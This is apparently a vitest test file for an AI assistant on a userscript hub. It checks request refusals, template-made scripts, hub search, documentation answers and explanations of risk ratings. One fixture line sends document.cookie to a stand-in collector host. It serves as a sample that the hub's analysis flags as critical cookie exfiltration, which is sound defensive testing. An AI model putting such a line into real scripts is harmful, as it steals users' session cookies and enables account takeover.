import { readStoredFlow } from "@scriptorium/flow/document/stored-flow";
import type {
	AssistantContext,
	AssistantHistoryMessage,
} from "@scriptorium/shared-protocol/hub-edge/ai-script-assistant";
import { describe, expect, test } from "vitest";
import { assistantWith, KEPT_ID, NOW } from "./assistant.test-support.ts";

const REQUEST = { message: "dark mode on news.example.com", history: [] };
const FOUND = {
	total: 7,
	scripts: [{ id: KEPT_ID, title: "Ad hider", path: "/nora/ad-hider", risk: "green" as const }],
};
const LEAK = "fetch('https://collector.example.net/?' + document.cookie);";
const open: AssistantContext = {
	kind: "script",
	scriptId: null,
	title: "Leaky",
	description: "Helps.",
	code: LEAK,
	risk: "red",
	findings: [
		{ type: "cookie-exfiltration", severity: "critical", description: "Sends cookies away.", line: 1 },
		{ type: "broad-match", severity: "low", description: "Runs on every site.", line: 4 },
	],
	isEditable: false,
};

describe("a request", () => {
	test.each([
		["another method", { init: { method: "PUT" } }, 405, "method_not_allowed"],
		["no JSON", { init: { body: "{" } }, 400, "invalid_request"],
		[
			"a longer history",
			{
				body: { ...REQUEST, history: Array.from({ length: 11 }, () => ({ role: "user", content: "a", script: null })) },
			},
			400,
			"invalid_request",
		],
		["no words", { body: { ...REQUEST, message: " \n\u200b" } }, 400, "prompt_empty"],
		["too many words", { body: { ...REQUEST, message: "a".repeat(4001) } }, 413, "prompt_too_long"],
		["a visitor", { init: { headers: { Authorization: "Bearer key" } } }, 401, "unauthenticated"],
		["an ended session", { init: { headers: { Authorization: "Bearer x.y.z" } } }, 401, "unauthenticated"],
		["too many requests", { reserve: "rate_limited" as const }, 429, "rate_limited"],
		["a used-up quota", { reserve: "quota_exceeded" as const }, 429, "quota_exceeded"],
		["a model that is not allowed", { body: { ...REQUEST, model: "huge" } }, 400, "model_not_allowed"],
	])("with %s is refused before a model is asked, and nothing is stored", async (_what, given, status, code) => {
		const {
			body = REQUEST,
			init = {},
			reserve = "free",
		} = given as {
			body?: object;
			init?: RequestInit & { headers?: Record<string, string> };
			reserve?: "free" | "rate_limited" | "quota_exceeded";
		};
		const assistant = assistantWith({ answers: [], reserve });
		expect(await assistant.call(body, init)).toMatchObject({ status, body: { code, status } });
		expect([assistant.questions, assistant.kept]).toEqual([[], []]);
	});

	test("of a visitor is told to sign in, in the specification's words", async () => {
		const { body } = await assistantWith().call(REQUEST, { headers: { Authorization: "Bearer key" } });
		expect(body).toMatchObject({ error: "You must be logged in to use the AI assistant" });
	});

	test("of a browser's preflight is answered", async () => {
		expect((await assistantWith().respond(null, { method: "OPTIONS", body: null })).status).toBe(204);
	});
});

describe("without a model", () => {
	test("a script comes from a template, with its rating, and is stored with the question", async () => {
		const { answerTo, kept, limits } = assistantWith();
		const made = await answerTo("dark mode on news.example.com");
		expect(made).toMatchObject({
			id: KEPT_ID,
			model_used: "templates",
			script: {
				kind: "userscript",
				metadata: { match: ["*://news.example.com/*"] },
				rating: { risk_level: "green" },
				replacesOpen: false,
			},
		});
		expect(made.content).toContain("This hub has no AI model");
		expect(made.steps.map(({ kind }) => kind)).toEqual(["template", "rated"]);
		expect(made.thinking[0]).toMatch(/^Chose the template “.+”\.$/);
		expect(made.thinking[1]).toMatch(/^Rated the code: Low Risk/);
		const { id: _id, thinking: _thinking, ...parts } = made;
		expect(kept).toEqual([
			{
				person: "person",
				question: { text: "dark mode on news.example.com", askedAt: NOW },
				answer: { ...parts, is_cut: false },
			},
		]);
		expect(limits).toEqual([null]);
	});

	test("a missing value is asked for, and the next message answers", async () => {
		const { answerTo } = assistantWith();
		const asked = await answerTo("hide part of a site");
		expect([asked.script, asked.content]).toEqual([null, expect.stringMatching(/^Which part shall be hidden\?/)]);
		const history: AssistantHistoryMessage[] = [
			{ role: "user", content: "hide part of a site", script: null },
			{ role: "assistant", content: asked.content, script: null },
		];
		const made = await answerTo("#sidebar on news.example.com", { history });
		expect(made.script?.code).toContain("#sidebar");
		expect(made.script?.metadata.match).toEqual(["*://news.example.com/*"]);
	});

	test("what no template does is searched for in the hub by the person's own words", async () => {
		const { answerTo, searched } = assistantWith({ found: FOUND });
		const made = await answerTo("Order me a pizza tonight");
		expect(searched).toEqual(["order pizza tonight"]);
		expect(made).toMatchObject({ script: null, scripts: FOUND.scripts });
		expect(made.content).toMatch(/“pizza”.*nearest templates are/s);
		expect(made.thinking).toEqual(["Searched the hub for “order pizza tonight”: 7 scripts found."]);
	});

	test("scripts of the hub are found on request", async () => {
		const { answerTo, searched } = assistantWith({ found: FOUND });
		expect(await answerTo("Is there a script that hides advertisements?")).toMatchObject({
			scripts: FOUND.scripts,
			steps: [{ kind: "searched", query: "hides advertisements", found: 7 }],
		});
		expect(searched).toEqual(["hides advertisements"]);
	});

	test("a question is answered from the documentation", async () => {
		const { answerTo } = assistantWith();
		const made = await answerTo("How do I install a bookmarklet?");
		expect(made.content).toMatch(/drag the link to your bookmarks bar/i);
		expect(made.documents[0]?.path).toMatch(/#install-bookmarklet$/);
		expect(made.steps.map(({ kind }) => kind)).toEqual(["documentation"]);
	});

	test("the rating that is shown is explained by its findings and their rules", async () => {
		const { answerTo } = assistantWith();
		const made = await answerTo("Why is this rated high risk?", { context: open });
		expect(made.content).toMatch(/“Leaky” is rated High Risk\..*Line 1 \(critical\): Sends cookies away\./s);
		expect(made.content).toContain("Cookies sign you in. Anyone who has them can sign in as you without a password.");
		expect(made.steps).toEqual([{ kind: "explained", findings: 2 }]);
		const one = await answerTo("Explain the finding in line 4", { context: open });
		expect(one.content).toContain("Runs on every site.");
		expect(one.content).not.toContain("Sends cookies away.");
	});

	test("code without a rating is rated first", async () => {
		const { answerTo } = assistantWith();
		const made = await answerTo("Is this safe?", { context: { ...open, risk: null, findings: [] } });
		expect(made.steps).toMatchObject([
			{ kind: "rated", risk: "red", capabilities: ["hosts", "cookies"] },
			{ kind: "explained" },
		]);
		expect(made.content).toContain("High Risk");
	});

	test("what a script does is told by the analysis of its code", async () => {
		const code = `// ==UserScript==\n// @name A\n// @match https://a.example.com/*\n// @grant GM_setValue\n// ==/UserScript==\n${LEAK}`;
		const made = await assistantWith().answerTo("What does this script do?", { context: { ...open, code } });
		const lines = made.content.split("\n");
		expect(lines.slice(0, 5)).toEqual([
			"“Leaky”: Helps.",
			"It runs on https://a.example.com/*.",
			"It contacts collector.example.net.",
			"It uses functions of the script manager, uses cookies.",
			"“Leaky” is rated High Risk.",
		]);
		expect(made.steps).toMatchObject([{ kind: "rated", risk: "red" }]);
	});

	test("a flow comes from the shipped ones", async () => {
		const { answerTo } = assistantWith();
		const made = await answerTo("Make a flow that fills a contact form");
		const read = readStoredFlow(made.flow);
		expect(read).toMatchObject({ ok: true, value: { settings: { name: "Auto Form Filler" } } });
		expect(made.steps).toEqual([{ kind: "flow", steps: read.ok ? read.value.flow.nodes.length : 0 }]);
		expect((await answerTo("Make a flow that books a flight")).flow).toBeNull();
	});

	test("a change of the open script is not pretended", async () => {
		const { answerTo } = assistantWith();
		const edited: AssistantContext = { ...open, kind: "edited", isEditable: true };
		const made = await answerTo("rename this script to Night", { context: edited });
		expect([made.script, made.steps, made.content]).toEqual([
			null,
			[],
			expect.stringMatching(/^To change a script I need/),
		]);
	});

	test("an answer that cannot be stored is given without an id", async () => {
		expect(await assistantWith({ storeFails: true }).answerTo("dark mode")).toMatchObject({ id: null });
	});

	test("a stream has the steps, the text and the answer", async () => {
		const events = await assistantWith().streamOf("dark mode");
		expect(events.map(({ type }) => type)).toEqual(["thinking", "thinking", "text", "result"]);
	});
});
